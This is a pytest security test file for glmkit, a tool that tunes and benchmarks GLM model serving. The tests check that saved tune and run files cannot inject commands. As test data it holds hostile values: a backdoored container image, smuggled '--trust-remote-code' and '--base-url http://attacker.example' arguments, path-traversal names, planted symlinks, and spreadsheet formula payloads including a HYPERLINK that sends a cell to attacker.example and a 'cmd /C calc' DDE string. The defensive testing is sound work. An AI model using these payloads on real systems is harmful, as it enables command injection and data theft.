"""Issue #35, files the kit reads back: a tune state, a run's meta.json, its points and
metrics are at most as trusted as invoke.yaml, have a shape with limits, and no word of
them becomes an option of a command the kit runs. The reproductions are the issue's own.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from glmkit.errors import UsageError
from tests.unit.test_cli_trust import one_line_error, run_task

# --- High 3: `invoke tune --resume ID` -----------------------------------------------

HOSTILE_TUNE = {"settings": {
    "project": "glmkit", "vendor": "rocm", "gpu": "mi300x", "gpu_count": 8,
    "model": "zai-org/GLM-4.7-FP8", "image": "attacker/backdoored-vllm:1", "privileged": True,
    "extra_args": ["--trust-remote-code", "--tokenizer", "attacker/tok"]},
    "workload": "balanced", "batch": "16", "input_len": None, "output_len": None, "slo": [],
    "rows": []}


def _tune_state(root: Path, state: dict[str, Any], tune_id: str = "x") -> Path:
    folder = root / "results" / "tune" / tune_id
    folder.mkdir(parents=True)
    (folder / "tune.json").write_text(json.dumps(state))
    return folder


def _no_serving(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """deploy.up and down faked: the projects they were asked for."""
    from glmkit.run import deploy

    asked: list[str] = []

    def up(plan: Any, *_: Any, **__: Any) -> None:
        asked.append(f"up {plan.serving.project}")
        raise AssertionError(f"served {plan.serving.image.ref}")

    monkeypatch.setattr(deploy, "up", up)
    monkeypatch.setattr(deploy, "down", lambda project, *_: asked.append(f"down {project}"))
    return asked


def test_the_issues_tune_state_is_refused_in_one_line(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    import tasks

    monkeypatch.setattr(tasks, "ROOT", tmp_path)
    _tune_state(tmp_path, HOSTILE_TUNE)
    asked = _no_serving(monkeypatch)
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "tune", "--resume", "x")
    one_line_error(code, err, "privileged from invoke.yaml")
    assert "tune x (its saved settings read as invoke.yaml's)" in err and asked == []


@pytest.mark.parametrize(("drop", "refused"), [
    (("privileged",), "--trust-remote-code from the invoke.yaml"),
    (("privileged", "extra_args"), "attacker/backdoored-vllm:1"),
    (("privileged", "image", "extra_args"), None),
])
def test_each_part_of_a_saved_tune_needs_the_command_line(
        tmp_path: Path, drop: tuple[str, ...], refused: str | None) -> None:
    from glmkit.host.hardware import Hardware
    from glmkit.measure.tune import TuneRequest, _open
    from glmkit.run.deploy import plan_on_host

    settings = {k: v for k, v in HOSTILE_TUNE["settings"].items()  # type: ignore[attr-defined]
                if k not in drop}
    _tune_state(tmp_path, {**HOSTILE_TUNE, "settings": settings})
    _, resumed, _ = _open(TuneRequest(settings=_settings(), resume="x"), tmp_path / "results")
    assert resumed.settings.extra_args_source in ("invoke.yaml", "default")
    env = {"GLMKIT_HOME": str(tmp_path / "home"), "HF_HOME": str(tmp_path / "hf")}
    if refused is None:
        assert plan_on_host(resumed.settings, Hardware(vendor="cpu"), env).serving.model
        return
    with pytest.raises(UsageError, match=refused.replace(".", r"\.")):
        plan_on_host(resumed.settings, Hardware(vendor="cpu"), env)


def _settings(**values: Any) -> Any:
    from glmkit.host.settings import Settings

    return Settings(**values)


def test_what_the_command_line_gives_again_is_the_users(tmp_path: Path) -> None:
    # The legitimate tune started with --privileged --image … -- --trust-remote-code
    # resumes when the command line asks again; the state alone never grants it.
    from glmkit.measure.tune import TuneRequest, _open

    _tune_state(tmp_path, HOSTILE_TUNE)
    flags = {"privileged": True, "image": "attacker/backdoored-vllm:1",
             "extra_args": ("--trust-remote-code", "--tokenizer", "attacker/tok")}
    _, resumed, _ = _open(TuneRequest(settings=_settings(), resume="x", flags=flags),
                          tmp_path / "results")
    assert resumed.settings.privileged and resumed.settings.image_source == "flag"
    assert resumed.settings.extra_args_source == "flag"


@pytest.mark.parametrize("settings", [
    {"extra_args_source": "flag", "extra_args": ["--trust-remote-code"]},
    {"image_source": "flag", "image": "attacker/x:1"},
])
def test_a_saved_source_is_never_read_back(tmp_path: Path, settings: dict[str, Any]) -> None:
    from glmkit.measure.tune import TuneRequest, _open

    _tune_state(tmp_path, {**HOSTILE_TUNE, "settings": settings})
    _, resumed, _ = _open(TuneRequest(settings=_settings(), resume="x"), tmp_path / "results")
    assert "flag" not in (resumed.settings.extra_args_source, resumed.settings.image_source)


@pytest.mark.parametrize(("change", "message"), [
    ({"slo": ["ttft:1", "--base-url"]}, "slo.1"),
    ({"rows": [{"candidate": "x" * 500}]}, "rows.0"),
    ({"rows": [{"candidate": "a", "run_id": "../../etc", "goodput": 1.0}]}, "rows.0.run_id"),
    ({"batch": "1,-2"}, "--batch"),
    ({"workload": "agentic"}, "Unknown workload"),
    ({"input_len": -5}, "input_len"),
    ({"settings": {"nope": 1}}, "Unknown setting"),
])
def test_a_tune_state_has_a_shape(tmp_path: Path, change: dict[str, Any],
                                  message: str) -> None:
    from glmkit.measure.tune import TuneRequest, _open

    _tune_state(tmp_path, {**HOSTILE_TUNE, "settings": {"vendor": "cpu"}, **change})
    with pytest.raises(UsageError, match=message) as err:
        _open(TuneRequest(settings=_settings(), resume="x"), tmp_path / "results")
    assert "\n" not in str(err.value) and len(str(err.value)) < 400


def test_a_row_naming_no_candidate_is_one_line_not_a_traceback(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from rich.console import Console

    from glmkit.host.hardware import Hardware
    from glmkit.measure.tune import TuneRequest, run_tune

    _no_serving(monkeypatch)
    _tune_state(tmp_path, {**HOSTILE_TUNE, "settings": {"vendor": "cpu"}, "rows": [
        {"candidate": "made up", "run_id": "r1", "goodput": 99.0}]})
    with pytest.raises(UsageError, match="does not have"):
        run_tune(TuneRequest(settings=_settings(), resume="x"), Hardware(vendor="cpu"),
                 {"GLMKIT_HOME": str(tmp_path / "home")}, tmp_path, Console(quiet=True))


def test_settings_from_an_unknown_layer_fail_closed() -> None:
    from glmkit.policy import Source

    for layer in ("tune.json", "results", ""):
        with pytest.raises(UsageError, match="unknown layer"):
            Source.of_setting(layer)
    assert Source.of_setting("invoke.yaml") is Source.INVOKE_YAML
    with pytest.raises(UsageError, match="unknown layer"):
        from tests.unit.helpers import plan_for

        plan_for(extra_args=("--trust-remote-code",), extra_args_source="tune.json")


# --- Medium 9: a tune never touches the user's server ---------------------------------

def test_a_tune_serves_in_a_project_of_its_own(tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from types import SimpleNamespace

    from rich.console import Console

    from glmkit.host.hardware import Hardware
    from glmkit.measure import tune

    projects: list[str] = []
    monkeypatch.setattr(tune.deploy, "up", lambda plan, *_, **__: projects.append(
        f"up {plan.serving.project}"))
    monkeypatch.setattr(tune.deploy, "down", lambda project, *_: projects.append(
        f"down {project}"))
    benched: list[str] = []

    def bench(request: Any, *_: Any) -> Any:
        benched.append(request.project)
        return SimpleNamespace(series=SimpleNamespace(run_id="r", points={
            4: {"request_throughput": 1.0}}))

    monkeypatch.setattr(tune, "run_bench", bench)
    console = Console(record=True, width=200)
    report = tune.run_tune(tune.TuneRequest(settings=_settings(vendor="cpu"), batch="4",
                                            max_candidates=2),
                           Hardware(vendor="cpu"), {"GLMKIT_HOME": str(tmp_path / "h")},
                           tmp_path, console)
    assert projects == ["up glmkit-tune", "up glmkit-tune", "down glmkit-tune"]
    assert benched == ["glmkit-tune", "glmkit-tune"]
    assert "served as project glmkit-tune" in console.export_text()
    state = json.loads((report.folder / "tune.json").read_text())
    assert state["settings"]["project"] == "glmkit"  # the user's, for the winner
    assert "extra_args_source" not in state["settings"]
    assert tune.tune_project("p" * 63) == "p" * 58 + "-tune"


# --- High 4: `invoke bench --resume RUN` -----------------------------------------------

HOSTILE_POINT = {"batch": 1, "num_prompts": 1, "max_concurrency": None,
                 "request_rate": "inf",
                 "goodput": ["ttft:1", "--base-url", "http://attacker.example",
                             "--trust-remote-code", "--tokenizer", "attacker/evil-tok"]}


def _run_folder(results: Path, points: list[dict[str, Any]], run_id: str = "r1") -> Path:
    folder = results / run_id
    folder.mkdir(parents=True)
    (folder / "meta.json").write_text(json.dumps({
        "version": 2, "label": "r1", "model": "glm", "vendor": "cpu",
        "workload": {"name": "balanced"}, "mode": "prompts",
        "batches": [p["batch"] for p in points], "points": points}))
    return folder


def _fake_server(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """A running server and `docker exec` faked: the argvs that would have run."""
    from glmkit.measure import bench, point
    from glmkit.run.server import RunningServer

    target = RunningServer(container="c", served_model="glm", model_ref="/models/glm",
                           max_model_len=4096, vendor="cpu", image="i", serve_args=(),
                           base_url="http://127.0.0.1:1")

    class Idle:
        def start(self) -> Idle:
            return self

        def stop(self) -> None:
            return None

    ran: list[list[str]] = []

    def stream_lines(argv: list[str], *_: Any, **__: Any) -> tuple[int, list[str]]:
        ran.append(argv)
        return 1, ["no server here"]

    monkeypatch.setattr(bench, "running_server", lambda project, model=None: (object(), target))
    monkeypatch.setattr(bench, "server_alive", lambda *_: True)
    monkeypatch.setattr(point, "stream_lines", stream_lines)
    monkeypatch.setattr(point, "Sampler", Idle)
    monkeypatch.setattr(point, "MetricsSampler", lambda **_: Idle())
    return ran


def test_the_issues_goodput_words_never_reach_vllm_bench(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    _run_folder(tmp_path / "results", [HOSTILE_POINT])
    ran = _fake_server(monkeypatch)
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "bench", "--resume", "r1")
    one_line_error(code, err, "Run r1 cannot be resumed: its meta.json point 0: goodput")
    assert ran == []


@pytest.mark.parametrize("rate", ["--base-url=http://attacker.example", "nan", "0", "-1",
                                  "1_000", " 5", "1e999", 5, "x" * 5000])
def test_a_saved_request_rate_is_a_number_or_inf(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        rate: Any) -> None:
    _run_folder(tmp_path / "results", [{**HOSTILE_POINT, "goodput": [], "request_rate": rate}])
    ran = _fake_server(monkeypatch)
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "bench", "--resume", "r1")
    one_line_error(code, err, "request_rate")
    assert ran == [] and len(err) < 400


def test_a_legitimate_resume_runs_each_value_joined_to_its_option(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    _run_folder(tmp_path / "results", [{**HOSTILE_POINT, "request_rate": "2.5",
                                        "goodput": ["ttft:2000", "tpot:50"]}])
    ran = _fake_server(monkeypatch)
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "bench", "--resume", "r1")
    assert code != 0 and "Traceback" not in err  # the faked point fails
    (argv,) = ran
    words = argv[argv.index("vllm"):]
    assert "--request-rate=2.5" in words and "--model=glm" in words
    # Every word is an option with its value, a switch, or a checked goodput bound.
    assert words[-3:] == ["--goodput", "ttft:2000", "tpot:50"]
    assert all(w.startswith("--") for w in words[3:-2])


# --- Medium 5: report.csv holds no formula --------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1"]


def test_report_csv_cells_are_never_formulas(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    import csv

    for i, text in enumerate(FORMULAS):
        folder = tmp_path / "results" / (f"=cmd{i}" if i % 2 else f"run{i}")
        (folder / "points").mkdir(parents=True)
        (folder / "meta.json").write_text(json.dumps({
            "label": text, "model": text, "vendor": text, "workload": {"name": text},
            "batches": [1]}))
        (folder / "points" / "batch-0001.json").write_text(json.dumps({
            "completed": text, "failed": 0, "output_throughput": 12.5,
            "mean_ttft_ms": "=1+1"}))
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "report", "--out",
                            str(tmp_path / "out"))
    assert code == 0, err
    rows = list(csv.reader((tmp_path / "out" / "report.csv").open(newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        cells = dict(zip(header, row, strict=True))
        for name in ("run_id", "label", "model", "vendor", "workload"):
            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), cells
        assert cells["label"].startswith("'") and cells["label"][1:] in FORMULAS
        assert cells["completed"] == "" and cells["mean_ttft_ms"] == ""  # text: no number
        assert float(cells["output_throughput"]) == 12.5 and cells["batch"] == "1"


# --- Medium 6: what a report reads of a run is bounded ----------------------------------

def _point_run(results: Path, name: str, batches: list[int]) -> Path:
    folder = results / name
    (folder / "points").mkdir(parents=True)
    (folder / "meta.json").write_text(json.dumps({"label": name, "model": "glm",
                                                  "vendor": "cpu", "batches": batches}))
    for b in batches:
        (folder / "points" / f"batch-{b:04d}.json").write_text(json.dumps(
            {"completed": b, "failed": 0, "output_throughput": 2.0 * b}))
    return folder


def test_the_issues_16_mib_point_file_is_skipped_with_a_note(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    import csv

    folder = _point_run(tmp_path / "results", "r1", [1, 2])
    big = folder / "points" / "batch-0001.json"
    big.write_text(json.dumps({"completed": 1, "pad": "x" * (16 * 1024 * 1024)}))
    _point_run(tmp_path / "results", "r2", [4])
    code, out, err = run_task(monkeypatch, capsys, tmp_path, "report", "--out",
                              str(tmp_path / "out"))
    assert code == 0, err
    assert "1 file(s) of r1 over 2 MiB skipped" in " ".join(out.split())
    rows = list(csv.reader((tmp_path / "out" / "report.csv").open(newline="")))
    assert sorted((r[0], r[5]) for r in rows[1:]) == [("r1", "2"), ("r2", "4")]


def test_the_issues_meta_of_200000_batches_is_one_note(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    import time

    huge = tmp_path / "results" / "huge"
    huge.mkdir(parents=True)
    (huge / "meta.json").write_text(json.dumps({"label": "huge", "model": "glm",
                                                "batches": list(range(1, 200_001))}))
    compact = tmp_path / "results" / "compact"  # under 1 MiB, still 100,000 points
    compact.mkdir()
    (compact / "meta.json").write_text(json.dumps({"batches": list(range(1, 100_001))},
                                                  separators=(",", ":")))
    _point_run(tmp_path / "results", "fine", [1])
    started = time.monotonic()
    code, out, err = run_task(monkeypatch, capsys, tmp_path, "report", "--out",
                              str(tmp_path / "out"))
    assert code == 0 and time.monotonic() - started < 20, err
    flat = " ".join(out.split())
    assert "over the 1048576-byte limit" in flat and "100,000 points, over the 1,000" in flat


def test_a_run_past_its_read_budget_is_read_in_part_with_a_note(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from glmkit.measure import results

    folder = _point_run(tmp_path, "r1", list(range(1, 11)))
    size = (folder / "points" / "batch-0001.json").stat().st_size
    monkeypatch.setattr(results, "RUN_READ_BYTES", 4 * size)
    series, notes = results.load_report(tmp_path, [])
    assert sorted(series[0].points) == [1, 2, 3, 4]
    assert any("6 file(s) of r1 not read" in n for n in notes)


def test_a_runs_files_beyond_1000_are_not_read(tmp_path: Path) -> None:
    from glmkit.measure.results import load_report

    folder = _point_run(tmp_path, "r1", list(range(1, 1001)))
    for b in range(1001, 1006):  # more files than the meta.json lists
        (folder / "points" / f"batch-{b:04d}.json").write_text("{}")
    (series,), notes = load_report(tmp_path, [])
    assert "holds 1,005 batch files; the first 1,000 are read" in notes[0]
    assert max(series.points) == 1000


def test_points_keep_what_a_report_reads_and_samples_are_thinned(tmp_path: Path) -> None:
    from glmkit.measure.results import (
        MAX_FILE_BYTES,
        RUN_SAMPLES,
        create_run,
        load_report,
        read_meta,
    )

    run = create_run(tmp_path, read_meta({"batches": [1], "model": "m"}, "r"))
    run.save_point(1, {"completed": 1, "output_throughput": 5.0, "nested": {"a": [1] * 1000},
                       "text": "t" * 10_000, "huge": 10 ** 300})
    samples = [{"t": i / 4, "kv_cache_usage": 0.5, "running": 1.0, **{f"k{j}": 1.0
               for j in range(20)}} for i in range(100_000)]
    run.save_metrics(1, {"samples": samples, "summary": {"kv_cache_usage_peak": 50.0}})
    written = run.path / "metrics" / "batch-0001.json"
    assert written.stat().st_size <= MAX_FILE_BYTES  # thinned when written
    (series,), notes = load_report(tmp_path, [])
    assert notes == []
    point = series.points[1]
    assert point["output_throughput"] == 5.0 and "nested" not in point
    assert len(point["text"]) == 200 and point["huge"] is None
    kept = series.metrics[1]["samples"]
    assert 2 <= len(kept) <= RUN_SAMPLES and kept[0]["t"] == 0.0
    assert kept[-1]["t"] == samples[-1]["t"] and len(kept[0]) <= 12


def test_a_terminal_table_shows_the_newest_points(tmp_path: Path) -> None:
    from glmkit.measure.report import MAX_TABLE_ROWS, results_table
    from glmkit.measure.results import Series, read_meta

    series = [Series(f"r{i}", read_meta({"label": f"r{i}"}, f"r{i}"),
                     {b: {"completed": b} for b in range(1, 301)}) for i in range(3)]
    table = results_table(series)
    assert table.row_count == MAX_TABLE_ROWS
    assert table.caption == "the newest 500 of 900 points; report.csv has every one"


# --- Low: a run's points/ that is a symbolic link is not written through --------------

@pytest.mark.parametrize("kind", ["points", "metrics", "telemetry", "failures"])
def test_a_linked_results_folder_is_never_written_through(tmp_path: Path, kind: str) -> None:
    from glmkit.measure.results import create_run, read_meta

    run = create_run(tmp_path / "results", read_meta({"batches": [1], "model": "m"}, "r"))
    outside = tmp_path / "outside"
    outside.mkdir()
    (run.path / kind).symlink_to(outside)
    save = {"points": lambda: run.save_point(1, {"completed": 1}),
            "metrics": lambda: run.save_metrics(1, {"samples": []}),
            "telemetry": lambda: run.save_telemetry(1, {"samples": []}),
            "failures": lambda: run.save_failure(1, {"exit_code": 1})}[kind]
    with pytest.raises(UsageError, match="symbolic link"):
        save()
    assert list(outside.iterdir()) == []


# --- Lows: bad values quoted short, long paths, tune-moe's summary, gpu_truth names --------

WALL = "x" * 5000
TOO_LONG = "/tmp/" + "y" * 300  # longer than a file-name component


@pytest.mark.parametrize("argv", [
    ["bench", "--label", WALL], ["bench", "--workload", WALL], ["bench", "--mode", WALL],
    ["bench", "--batch", WALL], ["bench", "--request-rate", WALL], ["bench", "--resume", WALL],
    ["tune", "--slo", WALL], ["tune", "--resume", WALL], ["plan", "--goal", WALL],
    ["recipes", WALL], ["export", WALL], ["login", "--token-file", WALL],
    ["report", "--out", f"{TOO_LONG}/{WALL}"],
])
def test_a_bad_value_is_quoted_short(argv: list[str], monkeypatch: pytest.MonkeyPatch,
                                     capsys: pytest.CaptureFixture[str],
                                     tmp_path: Path) -> None:
    _point_run(tmp_path / "results", "r1", [1])  # report reaches --out
    if argv[0] == "bench":  # bench refuses its options before looking for a server
        from glmkit.measure import bench

        monkeypatch.setattr(bench, "running_server", lambda project, model=None: (
            _ for _ in ()).throw(AssertionError("looked for a server")))
    code, _, err = run_task(monkeypatch, capsys, tmp_path, *argv)
    assert code == 2 and "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1 and len(err) < 300, err


@pytest.mark.parametrize("argv", [["report", "--runs", TOO_LONG],
                                  ["bench-data", "--out", TOO_LONG],
                                  ["recipes", "sync", "--from", TOO_LONG]])
def test_a_path_longer_than_a_name_is_one_line(argv: list[str],
                                               monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str],
                                               tmp_path: Path) -> None:
    code, _, err = run_task(monkeypatch, capsys, tmp_path, *argv,
                            env={"GLMKIT_HOME": str(tmp_path / "home")})
    one_line_error(code, err, "y" * 40)
    assert len(err) < 300


def test_bench_data_refuses_a_folder_docker_would_split(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    for out in ("a:b", "a,b"):
        code, _, err = run_task(monkeypatch, capsys, tmp_path, "bench-data", "--out",
                                str(tmp_path / out))
        one_line_error(code, err, "cannot be mounted")


# print_tune_moe and a summary without speedup: tests/unit/test_tune_moe.py
# (test_a_result_line_without_its_fields_is_no_result), where the summary is now checked.


@pytest.mark.parametrize("argv", [
    ["run", "/nonexistent", "--tag", "../../x"], ["reference", "/tmp", "--name", "../x"],
    ["reference", "/tmp", "--name", "/etc/x"]])
def test_gpu_truth_names_stay_in_their_folder(argv: list[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.unit.test_gpu_truth import _script

    monkeypatch.setattr("sys.argv", ["gpu_truth.py", *argv])
    with pytest.raises(SystemExit) as exited:
        _script().main()
    assert isinstance(exited.value.code, str) and "must be a plain name" in exited.value.code


# --- a point's and the agentic client's result, copied out of the container --------------

@pytest.mark.parametrize("planted", ["link", "list", "failed-text", "huge"])
def test_a_points_result_from_the_container_is_read_as_data(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str) -> None:
    from glmkit.measure import point
    from glmkit.measure.results import create_run, read_meta
    from glmkit.measure.workloads import WORKLOADS, Point

    secret = tmp_path / "secret.txt"
    secret.write_text('{"stolen": "hf_SECRET"}')
    run_ = create_run(tmp_path / "results", read_meta({"batches": [1], "model": "m"}, "r"))
    _fake_server(monkeypatch)
    monkeypatch.setattr(point, "stream_lines", lambda *_, **__: (0, ["done"]))

    def docker(argv: list[str], **_: Any) -> None:
        if argv[1] != "cp":
            return
        out = Path(argv[-1]) / point.point_name(1)
        if planted == "link":  # `docker cp` copies a link in the container as a link
            out.symlink_to(secret)
        else:
            out.write_text({"list": "[1, 2]", "failed-text": '{"failed": "many", '
                            '"output_throughput": "fast"}',
                            "huge": json.dumps({"x": "y" * (2 * 1024 * 1024)})}[planted])

    monkeypatch.setattr(point, "run", docker)
    from glmkit.measure.bench import running_server

    _, target = running_server("p")
    outcome = point.run_point(target, WORKLOADS["balanced"], Point(
        batch=1, num_prompts=1, max_concurrency=None, request_rate="inf"), run_, lambda _: None)
    assert "hf_SECRET" not in json.dumps([p.read_text() for p in run_.path.rglob("*.json")])
    if planted == "failed-text":
        assert outcome.detail == "0.0 out tok/s"
    else:
        assert not outcome.ok and outcome.result is None and "result file" in outcome.detail


@pytest.mark.parametrize("text", ['{"errors": []}', '{"turns": [{"session": 0}]}',
                                  '{"turns": [{"session": 0, "turn": "x"}]}', "[]",
                                  '{"turns": [], "errors": [{"a": 1}]}'])
def test_the_agentic_clients_result_has_its_shape(tmp_path: Path, text: str) -> None:
    from glmkit.errors import BenchFailed
    from glmkit.measure.agentic import _client_result

    (tmp_path / "out.json").write_text(text)
    with pytest.raises(BenchFailed, match="agentic client's result in c"):
        _client_result(tmp_path / "out.json", "c")
    (tmp_path / "link.json").symlink_to(tmp_path / "out.json")
    with pytest.raises(BenchFailed, match="cannot be read"):
        _client_result(tmp_path / "link.json", "c")
    (tmp_path / "good.json").write_text('{"turns": [{"session": 0, "turn": 1, '
                                        '"ttft_ms": 5.5}], "errors": []}')
    assert _client_result(tmp_path / "good.json", "c")["turns"][0]["ttft_ms"] == 5.5


@pytest.mark.parametrize("info", ["link", '{"rows": "4", "revision": "sample-1"}', "[]",
                                  '{"rows": 4, "revision": "../../x"}'])
def test_bench_datas_info_from_the_container_is_read_as_data(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, info: str) -> None:
    from types import SimpleNamespace

    from glmkit.errors import EnvironmentProblem
    from glmkit.measure import bench_data

    (tmp_path / "secret").write_text('{"rows": 1, "revision": "sample-1"}')

    def docker(argv: list[str], check: bool = True) -> Any:
        staging = Path(argv[argv.index("-v", argv.index("-v") + 1) + 1].split(":")[0])
        if info == "link":
            (staging / bench_data.INFO).symlink_to(tmp_path / "secret")
        else:
            (staging / bench_data.INFO).write_text(info)
        return SimpleNamespace(returncode=0)

    monkeypatch.setattr(bench_data, "run", docker)
    with pytest.raises(EnvironmentProblem, match="is not what the script writes"):
        bench_data.make_sample("img", str(tmp_path / "out"), Path("scripts"), 4)
    assert not (tmp_path / "out").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize("path", ["attacker/evil-dataset", "--trust-remote-code",
                                  "/tmp/glmkit-datasets/../../etc", "/a b"])
def test_a_saved_dataset_path_is_a_folder_in_the_container(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        path: str) -> None:
    folder = _run_folder(tmp_path / "results", [{**HOSTILE_POINT, "goodput": []}])
    meta = json.loads((folder / "meta.json").read_text())
    meta["workload"] = {"name": "visionarena", "dataset": "visionarena", "dataset_path": path}
    (folder / "meta.json").write_text(json.dumps(meta))
    ran = _fake_server(monkeypatch)
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "bench", "--resume", "r1")
    one_line_error(code, err, "cannot be resumed: its meta.json workload")
    assert ran == []


@pytest.mark.parametrize("failed", ["1", "=1", [1], {"n": 1}, None, True])
def test_a_point_whose_failed_count_is_not_a_number_is_reported(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path, failed: Any) -> None:
    """'"failed": "1"' in one points file ended every `invoke report` in a TypeError
    (str > int; independent review of #35): a count that is not a number reads as 0."""
    folder = tmp_path / "results" / "run1"
    (folder / "points").mkdir(parents=True)
    (folder / "meta.json").write_text(json.dumps({
        "label": "failedcount", "model": "glm", "vendor": "cpu",
        "workload": {"name": "balanced"}, "batches": [1]}))
    (folder / "points" / "batch-0001.json").write_text(json.dumps({
        "completed": 1, "failed": failed, "output_throughput": 12.5}))
    code, out, err = run_task(monkeypatch, capsys, tmp_path, "report", "--out",
                              str(tmp_path / "out"))
    assert code == 0, err
    assert "failedcount" in out


def test_an_hf_home_under_a_system_folder_names_the_environment(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        tmp_path: Path) -> None:
    """HF_HOME=/opt was refused 'from GLMKIT_EXTRA_ARGS' (independent review of #35)."""
    code, _, err = run_task(monkeypatch, capsys, tmp_path, "render", "--no-check",
                            "--vendor", "cuda", "--gpu", "h200", "--model",
                            "zai-org/GLM-4.7-FP8", env={"HF_HOME": "/opt"})
    one_line_error(code, err, "from the environment is under /opt")
    assert "GLMKIT_EXTRA_ARGS" not in err
